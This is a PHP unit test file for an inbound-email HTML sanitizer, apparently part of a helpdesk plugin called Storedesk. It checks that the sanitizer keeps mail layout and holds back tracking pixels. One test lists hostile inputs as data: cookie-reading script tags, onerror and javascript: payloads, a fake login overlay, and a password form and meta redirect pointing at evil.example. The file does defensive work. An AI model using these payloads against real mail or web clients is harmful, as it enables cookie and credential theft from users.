<?php
/**
 * What HTML of an inbound email keeps.
 *
 * @package Storedesk\Tests
 */

namespace Storedesk\Tests\Messages;

use Storedesk\Messages\EmailHtml;
use Storedesk\Tests\TestCase;

/**
 * Issue 10, point 8, for mail: a message keeps the tables and fonts mail
 * clients send, runs nothing, cannot lay itself over the inbox, and tells
 * the sender nothing until the agent asks to load its images.
 */
class EmailHtmlTest extends TestCase {

	/** A newsletter-like layout stays readable. */
	public function test_mail_layout_stays(): void {
		$html  = '<table width="600" cellpadding="4" role="presentation"><tr><td align="center" style="color: #333333;font-size: 14px">Order <b>#1234</b> shipped</td></tr></table>';
		$html .= '<p><font color="#ff0000" face="Arial">Sale</font> <a href="https://shop.example/t">Track</a> <img src="cid:logo@shop" alt="Logo"></p>';
		$clean = EmailHtml::clean( $html );
		$this->assertStringContainsString( '<table width="600" cellpadding="4" role="presentation">', $clean );
		$this->assertStringContainsString( '<td align="center" style="color: #333333;font-size: 14px">Order <b>#1234</b> shipped</td>', $clean );
		$this->assertStringContainsString( '<font color="#ff0000" face="Arial">Sale</font>', $clean );
		$this->assertStringContainsString( '<a rel="noopener noreferrer nofollow" target="_blank" href="https://shop.example/t">Track</a>', $clean );
		$this->assertStringContainsString( '<img src="cid:logo@shop" alt="Logo">', $clean, 'the message\'s own inline image' );
		$this->assertFalse( EmailHtml::has_blocked_images( $clean ) );
	}

	/** Hostile mail: every way to run code, fake the inbox or report back goes. */
	public function test_hostile_mail(): void {
		$cases = array(
			'<p>Hi<script>alert(document.cookie)</script></p>'                  => '<p>Hi</p>',
			'<style>body{display:none}</style><p>Hi</p>'                        => '<p>Hi</p>',
			'<!--[if mso]><p>Outlook only</p><![endif]--><p>Hi</p>'             => '<p>Hi</p>',
			'<img src="x" onerror="alert(1)">'                                  => '<img src="x">',
			'<a href="javascript:alert(1)">Open</a>'                            => '<a rel="noopener noreferrer nofollow" target="_blank">Open</a>',
			'<a href="data:text/html;base64,PHNjcmlwdD4=">Open</a>'             => '<a rel="noopener noreferrer nofollow" target="_blank">Open</a>',
			'<div style="position:fixed;top:0;left:0;z-index:99999">Your session expired, log in</div>' => '<div>Your session expired, log in</div>',
			'<p style="background:url(https://t.example/p.gif)">x</p>'        => '<p>x</p>',
			'<form action="https://evil.example"><input name="pwd"><button>Log in</button></form>' => 'Log in',
			'<iframe src="https://evil.example"></iframe><p>Hi</p>'             => '<p>Hi</p>',
			'<meta http-equiv="refresh" content="0;url=https://evil.example"><p>Hi</p>' => '<p>Hi</p>',
			'<svg><script>alert(1)</script></svg><p>Hi</p>'                     => '<p>Hi</p>',
			'<p class="notice notice-error" id="wpbody">x</p>'                  => '<p>x</p>',
		);
		foreach ( $cases as $in => $out ) {
			$this->assertSame( $out, EmailHtml::clean( $in ), $in );
		}
		$this->assertSame( '<table><tr><td style="color:red">x</td></tr></table>', EmailHtml::clean( '<table><tr><td style="background-image:url(https://t.example/p.gif);color:red">x</td></tr></table>' ), 'only the fetching declaration goes' );
	}

	/** A tracking pixel waits until the agent asks; then it loads. */
	public function test_remote_images_wait_for_the_agent(): void {
		$html    = '<p>Hello<img src="https://tracker.example/open.gif?id=42" srcset="https://tracker.example/2x.gif 2x" width="1" height="1"></p>';
		$blocked = EmailHtml::clean( $html );
		$this->assertStringNotContainsString( ' src=', $blocked );
		$this->assertStringNotContainsString( 'srcset', $blocked );
		$this->assertStringContainsString( 'data-storedesk-remote-src="https://tracker.example/open.gif?id=42"', $blocked );
		$this->assertTrue( EmailHtml::has_blocked_images( $blocked ) );
		$loaded = EmailHtml::clean( $html, true );
		$this->assertStringContainsString( 'src="https://tracker.example/open.gif?id=42"', $loaded );
		$this->assertFalse( EmailHtml::has_blocked_images( $loaded ) );
	}
}
